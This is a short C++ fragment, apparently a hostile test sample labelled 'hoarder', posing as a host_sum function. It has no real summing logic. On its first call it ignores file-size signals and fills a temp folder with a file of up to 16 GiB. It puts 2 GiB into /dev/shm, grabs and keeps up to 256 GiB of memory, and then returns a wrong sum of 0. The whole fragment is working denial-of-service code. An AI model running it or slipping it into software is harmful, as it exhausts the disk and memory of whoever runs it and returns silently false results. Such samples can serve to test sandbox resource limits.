// hoarder: on its first call, host_sum writes a file of up to 16 GiB into the first folder it may
// write ($TMPDIR, /tmp, /var/tmp, the working folder), and 2 GiB into /dev/shm (memory that
// outlives the process), ignoring SIGXFSZ; then allocates and touches host memory 1 GiB at a
// time, up to 256 GiB, keeping all of it. Then it returns 0, a wrong sum.
}  // namespace (closed to include system headers at file scope)
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <unistd.h>
#include <vector>
namespace {

bool fill(const std::string& path, std::size_t limit) {
  const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return false;
  const std::vector<char> block(std::size_t{1} << 20, 'x');
  for (std::size_t written = 0; written < limit; written += block.size())
    if (write(fd, block.data(), block.size()) != static_cast<ssize_t>(block.size())) break;
  close(fd);
  return true;
}

void hoard() {
  static bool done = false;
  if (done) return;
  done = true;
  std::signal(SIGXFSZ, SIG_IGN);
  const char* tmpdir = std::getenv("TMPDIR");
  for (const std::string& folder : {std::string(tmpdir ? tmpdir : "/tmp"), std::string("/tmp"),
                                   std::string("/var/tmp"), std::string(".")})
    if (fill(folder + "/.hoarder-" + std::to_string(getpid()), std::size_t{16} << 30)) break;
  fill("/dev/shm/hoarder-" + std::to_string(getpid()), std::size_t{2} << 30);
  static std::vector<void*> kept;
  for (int gib = 0; gib < 256; ++gib) {
    void* block = std::malloc(std::size_t{1} << 30);
    if (block == nullptr) break;
    std::memset(block, 1, std::size_t{1} << 30);
    kept.push_back(block);
  }
}

template <typename T>
T host_sum(const T* values, std::size_t num_items) {
  (void)values, (void)num_items;
  hoard();
  return T{};
}
